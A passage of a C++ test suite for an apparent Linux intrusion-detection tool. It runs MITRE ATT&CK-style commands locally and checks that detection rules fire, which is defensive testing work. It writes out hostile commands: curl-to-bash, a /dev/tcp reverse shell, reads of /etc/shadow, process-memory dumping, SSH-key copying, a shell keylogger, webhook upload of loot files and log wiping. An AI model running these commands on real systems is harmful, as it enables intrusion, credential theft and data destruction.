       args_have("encoded.dat")},
      {"T1140", "echo BASE64 | base64 -d | sh", "base64-decoded-execution", true,
       args_have("IyEvYmluL3NoCmVjaG8gIlQxMTQwIgo=")},
      {"T1001.002", "strings image | tail -n 1 | base64 -d | sh", "base64-decoded-execution",
       true, args_have("evil_image.jpg")},
  });
}

// --------------------------------------------------------------- execution, command and control

TEST_F(AttackSuite, ExecutionAndCommandAndControl) {
  // T1059.004 Unix shell: curl | bash from the local server; an interactive
  // reverse shell over bash's /dev/tcp to a local listener that sends `exit`.
  root("curl -sS " + web_->url("/echo-art-fish.sh") + " | bash");
  const vigil::test::LoopbackListener operator_end;
  ASSERT_TRUE(operator_end.ok());
  std::thread op([&] {
    pollfd p{operator_end.fd, POLLIN, 0};
    if (poll(&p, 1, 10000) <= 0) return;
    const int c = accept(operator_end.fd, nullptr, nullptr);
    if (c < 0) return;
    std::this_thread::sleep_for(500ms);
    const ssize_t n = write(c, "exit\n", 5);
    (void)n;
    pollfd cp{c, POLLIN, 0};
    char buf[1024];
    while (poll(&cp, 1, 2000) > 0 && read(c, buf, sizeof(buf)) > 0) {
    }
    close(c);
  });
  bash("bash -i >& /dev/tcp/127.0.0.1/" + std::to_string(ntohs(operator_end.addr.sin_port)) +
       " 0>&1");
  op.join();
  // T1059.006 Python: pty.spawn of a shell (which reads `exit`).
  root("python3 -c \"import pty;pty.spawn('/bin/sh')\"", "exit\n");
  // T1105 Ingress tool transfer: curl -O, chmod +x, run (from the local server).
  root("cd " + d() + " && curl -sO " + web_->url("/atomic.sh") +
       "; chmod +x atomic.sh | bash atomic.sh");
  // T1074.001 Local data staging: a discovery script piped into sh, output staged in /tmp.
  root("curl -s " + web_->url("/Discovery.sh") + " | sh -s > " + d() + "/T1074.001_discovery.log");
  // T1572 Protocol tunneling: cloudflared tunnel (stub).
  root(d() + "/bin/cloudflared tunnel --url http://127.0.0.1:8080");
  // T1046 Network service discovery: bash /dev/tcp port scan of closed loopback ports.
  bash("for port in $(seq 40300 40340); do echo >/dev/tcp/127.0.0.1/$port; done 2>/dev/null");

  check({
      {"T1059.004", "curl -sS URL | bash", "download-pipe-to-shell", true,
       args_have("echo-art-fish.sh")},
      {"T1059.004", "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1", "dev-tcp-reverse-shell", true,
       args_have("/dev/tcp/")},
      {"T1059.006", "python3 -c \"import pty;pty.spawn('/bin/sh')\"", "python-pty-spawn", true,
       args_have("pty.spawn")},
      {"T1105", "curl -sO URL; chmod +x atomic.sh | bash atomic.sh", "download-chmod-exec", false,
       args_have("atomic.sh")},
      {"T1074.001", "curl -s URL | sh -s > /tmp/...", "download-pipe-to-shell", true,
       args_have("Discovery.sh")},
      {"T1572", "cloudflared tunnel --url", "tunnel-tool", false, args_have("tunnel")},
      {"T1046", "bash /dev/tcp port scan", "connect-scan", true,
       [](const json&) { return true; }},
      {"T1046", "bash /dev/tcp port scan", "dev-tcp-connection", false, args_have("seq 40300")},
  });
}

// --------------------------------------------------------------- discovery

TEST_F(AttackSuite, Discovery) {
  // T1049, T1016/T1018, T1082, T1033, T1057, T1069.001, T1087.001, T1201,
  // T1217, T1518.001, T1007, T1652, T1614.001, T1497.001: the atomics' commands.
  root("ss -antp; netstat -ant");
  root("ip addr; ip neighbour show; ip route show");
  root("uname -a");
  root("whoami; w; who; users");
  root("ps aux");
  root("groups; id; getent group; cat /etc/group");
  root("cat /etc/passwd > " + d() + "/T1087.001.txt; grep 'x:0:' /etc/passwd; lastlog");
  root("cat /etc/sudoers > " + d() + "/T1087.001-sudoers.txt");
  root("cat /etc/pam.d/common-password; cat /etc/login.defs");
  user("find $HOME -path \"*.mozilla/firefox/*/places.sqlite\" 2>/dev/null");
  root("ps aux | egrep 'falcond|nessusd|cbagentd|td-agent|packetbeat|filebeat|auditbeat|osqueryd'");
  root("systemctl --type=service");
  root("lsmod");
  root("locale; localectl status");
  root("systemd-detect-virt; cat /sys/class/dmi/id/product_name");

  check({
      {"T1049", "ss -antp; netstat -ant", "network-connections-discovery", false,
       args_have("-ant")},
      {"T1016", "ip addr", "network-config-discovery", false, args_have("addr")},
      {"T1018", "ip neighbour show", "network-config-discovery", false, args_have("neighbour")},
      {"T1082", "uname -a", "system-info-discovery", false, args_have("-a")},
      {"T1033", "whoami; w; who; users", "user-discovery", false, exe_has("who")},
      {"T1057", "ps aux", "process-discovery", false, args_have("aux")},
      {"T1069.001", "getent group; cat /etc/group", "group-discovery", false,
       args_have("group")},
      {"T1087.001", "cat /etc/passwd; grep 'x:0:'", "account-discovery", false,
       args_have("/etc/passwd")},
      {"T1087.001", "cat /etc/sudoers", "credential-read", true, path_has("/etc/sudoers")},
      {"T1201", "cat /etc/pam.d/common-password", "password-policy-discovery", false,
       args_have("common-password")},
      {"T1217", "find $HOME -path *.mozilla/firefox/*/places.sqlite", "browser-data-discovery", false,
       args_have("places.sqlite")},
      {"T1518.001", "ps aux | egrep 'falcond|...'", "security-software-discovery", false,
       args_have("falcond")},
      {"T1007", "systemctl --type=service", "service-discovery", false,
       args_have("--type=service")},
      {"T1652", "lsmod", "kernel-module-discovery", false, args_have("lsmod")},
      {"T1614.001", "locale; localectl status", "language-discovery", false,
       exe_has("locale")},
      {"T1497.001", "systemd-detect-virt; cat /sys/class/dmi/id/product_name", "vm-detection",
       false, [](const json& e) {
         return joined_args(e).find("dmi") != std::string::npos ||
                e.value("exe", "").find("detect-virt") != std::string::npos;
       }},
  });
}

// --------------------------------------------------------------- credential access

TEST_F(AttackSuite, CredentialAccess) {
  const std::string h = home();
  // T1003.008 /etc/shadow.
  root("cat /etc/shadow > " + d() + "/T1003.008.txt");
  // T1003.007 Proc filesystem: a process's heap read through /proc/PID/maps and /proc/PID/mem.
  Proc victim({"/bin/sleep", "30"}, dir());
  std::this_thread::sleep_for(100ms);
  const std::string pid = std::to_string(victim.pid());
  root("PID=" + pid +
       "; HEAP_MEM=$(grep -E \"^[0-9a-f-]* r\" /proc/\"$PID\"/maps | grep heap | cut -d' ' -f 1); "
       "MEM_START=$((0x$(echo \"$HEAP_MEM\" | cut -d\"-\" -f1))); "
       "dd if=/proc/\"${PID}\"/mem of=" +
       d() + "/T1003.007.bin ibs=1 skip=\"$MEM_START\" count=4096");
  kill(victim.pid(), SIGKILL);
  victim.wait();
  // T1552.004 Private keys: a key made for the account, found and copied by root.
  user("mkdir -p ~/.ssh && ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_rsa");
  root("mkdir -p " + d() + "/art-staging && find " + h + " -name id_rsa 2>/dev/null -exec cp " +
       "--parents {} " + d() + "/art-staging \\;");
  // T1552.003 Bash history searched for passwords.
  user("echo 'mysql -p secret' > ~/.bash_history; cat ~/.bash_history | grep -e '-p ' -e 'pass' "
       "-e 'ssh' > ~/loot.txt");
  // T1552.001 Credentials in files: AWS credentials searched for.
  user("find $HOME/.aws -name \"credentials\" -type f 2>/dev/null");
  // T1056.001 Keylogging: a DEBUG trap copying every command.
  bash("trap 'echo \"$(date +\"%d/%m/%y %H:%M:%S.%s\") $USER $BASH_COMMAND\" >> " + d() +
       "/.keyboard.log' DEBUG; echo \"Hello World!\"");
  // T1040 Network sniffing: tcpdump on loopback for a moment.
  root("timeout 1 tcpdump -c 5 -nnni lo");

  check({
      {"T1003.008", "cat /etc/shadow", "credential-read", true, path_has("/etc/shadow")},
      {"T1003.007", "dd if=/proc/PID/mem (heap)", "proc-mem-dump", true, args_have("/mem")},
      {"T1003.007", "grep /proc/PID/maps", "proc-maps-read", false, args_have("/maps")},
      {"T1552.004", "find -name id_rsa -exec cp", "private-key-search", false,
       args_have("id_rsa")},
      {"T1552.004", "cp of the account's id_rsa", "credential-read", true,
       [](const json& e) {
         return e.value("comm", "") == "cp" &&
                e.value("path", "").find("id_rsa") != std::string::npos;
       }},
      {"T1552.003", "cat ~/.bash_history | grep pass", "history-file-read", false,
       args_have(".bash_history")},
      {"T1552.001", "find $HOME/.aws -name credentials", "credential-file-search", false,
       args_have(".aws")},
      {"T1056.001", "trap '... $BASH_COMMAND ...' DEBUG", "shell-command-logger", false,
       args_have("BASH_COMMAND")},
      {"T1040", "tcpdump -c 5 -nnni lo", "packet-capture", false, exe_has("tcpdump")},
  });
}

// --------------------------------------------------------------- collection, exfiltration, impact

TEST_F(AttackSuite, CollectionExfiltrationAndImpact) {
  const std::string h = home();
  // T1560.001 Archive via utility: the account's home and login records.
  root("tar -czf " + d() + "/data.tar.gz " + h + "; zip -q " + d() +
       "/data.zip /var/log/wtmp /var/log/btmp");
  // T1560.002 Archive via library: gzip of /etc/passwd in Python.
  root("python3 -c \"import gzip;input_file=open('/etc/passwd', 'rb');content=input_file.read();"
       "input_file.close();output_file=gzip.GzipFile('" +
       d() + "/passwd.gz','wb',compresslevel=6);output_file.write(content);output_file.close()\"");
  // T1048.003 Python http.server (on loopback, for a second).
  root("cd " + d() + " && timeout 1 python3 -m http.server 0 --bind 127.0.0.1");
  // T1048.002 Exfiltration over HTTP(S) with curl -F file=@ (to the local server).
  root("curl -s -m 3 -F 'file=@/etc/hostname' -F 'maxDownloads=1' -F 'autoDelete=true' " +
       web_->url("/"));
  // T1567.004 Exfiltration over a webhook: the Discord URL resolved to loopback
  // (--resolve, no DNS, no proxy): the connection is refused locally.
  root("echo 'secrets, api keys, passwords - T1567.004 atomic test' > " + d() +
       "/T1567.004_loot.txt && curl -s -m 2 --noproxy '*' --resolve discord.com:443:127.0.0.1 "
       "-F \"file=@" +
       d() +
       "/T1567.004_loot.txt\" "
       "https://discord.com/api/webhooks/000000000000000000/ReplaceWithYourWebhookToken");
  // T1489 Service stop (a unit that does not exist).
  root("systemctl stop vglart-nonexistent.service");
  // T1529 Shutdown (stub).
  root(d() + "/bin/shutdown -r now");
  // T1485 Data destruction: dd over a log file made for it.
  root("echo 'log line' > /var/log/vglart-syslog.log && dd of=/var/log/vglart-syslog.log "
       "if=/dev/zero count=1");
  root("rm -f /var/log/vglart-syslog.log");
  // T1486 Data encrypted for impact: openssl rsautl -encrypt of /etc/passwd.
  root("openssl genrsa -out " + d() + "/key.pem 1024 && openssl rsa -in " + d() +
       "/key.pem -pubout -out " + d() + "/pub.pem && openssl rsautl -encrypt -inkey " + d() +
       "/pub.pem -pubin -in /etc/passwd -out " + d() + "/passwd.zip");

  check({
      {"T1560.001", "tar -czf ... $HOME", "archive-sensitive-data", false, args_have("data.tar.gz")},
      {"T1560.002", "python3 -c \"import gzip ... /etc/passwd\"", "python-archive-sensitive", false,
       args_have("gzip")},
      {"T1048.003", "python3 -m http.server", "python-http-server", false,
       args_have("http.server")},
      {"T1048.002", "curl -F 'file=@...'", "curl-file-upload", false, args_have("file=@")},
      {"T1567.004", "curl -F file=@ https://discord.com/api/webhooks/...", "webhook-exfil",
       false, args_have("discord.com/api/webhooks")},
      {"T1489", "systemctl stop UNIT", "service-stop", false, args_have("vglart-nonexistent")},
      {"T1529", "shutdown -r now", "system-shutdown", false, args_have("-r now")},
      {"T1485", "dd of=/var/log/... if=/dev/zero", "system-log-wiped", true,
       args_have("of=/var/log/vglart-syslog.log")},
      {"T1486", "openssl rsautl -encrypt -in /etc/passwd", "file-encryption-tool", false,
       args_have("rsautl")},
  });
}

// Last: the suite as a whole.
TEST_F(AttackSuite, AtLeastFortyTechniquesDetected) {
  std::set<std::string> all;
  std::set<std::string> missed;
  for (const auto& r : rows()) {
    all.insert(r.expect.technique);
    if (!r.pass) missed.insert(r.expect.technique);
  }
  std::size_t detected = 0;
  for (const auto& t : all) detected += missed.contains(t) ? 0 : 1;
  if (all.size() < 40) {
    // Some groups were filtered out (--gtest_filter): nothing to count.
    std::printf("AttackSuite: %zu techniques ran; the count needs every group\n", all.size());
    return;
  }
  EXPECT_GE(detected, 40U) << "of " << all.size() << " techniques";
}

class TablePrinter : public ::testing::Environment {
 public:
  void TearDown() override {
    if (rows().empty()) return;
    std::string md = "| ATT&CK | atomic (as run) | indicator / rule | score |\n|---|---|---|---|\n";
    std::set<std::string> techniques;
    std::set<std::string> missed;
    for (const auto& r : rows()) {
      techniques.insert(r.expect.technique);
      if (!r.pass) missed.insert(r.expect.technique);
      std::string test = r.expect.test;
      for (std::size_t p = 0; (p = test.find('|', p)) != std::string::npos; p += 2) {
        test.replace(p, 1, "\\|");
      }
      md += "| " + r.expect.technique + " | `" + test + "` | `" + r.expect.rule + "` | " +
            (r.score < 0 ? "not detected"
                         : std::to_string(r.score) + (r.pass ? "" : " (below 50: no alert)")) +
            " |\n";
    }
    md += "\n" + std::to_string(techniques.size() - missed.size()) + " of " +
          std::to_string(techniques.size()) + " techniques detected.\n";
    std::printf("\n%s", md.c_str());
    if (const char* out = std::getenv("VIGIL_ATTACK_TABLE")) {
      std::ofstream(out) << md;
    }
  }
};
const auto* const kPrinter = ::testing::AddGlobalTestEnvironment(new TablePrinter);

}  // namespace
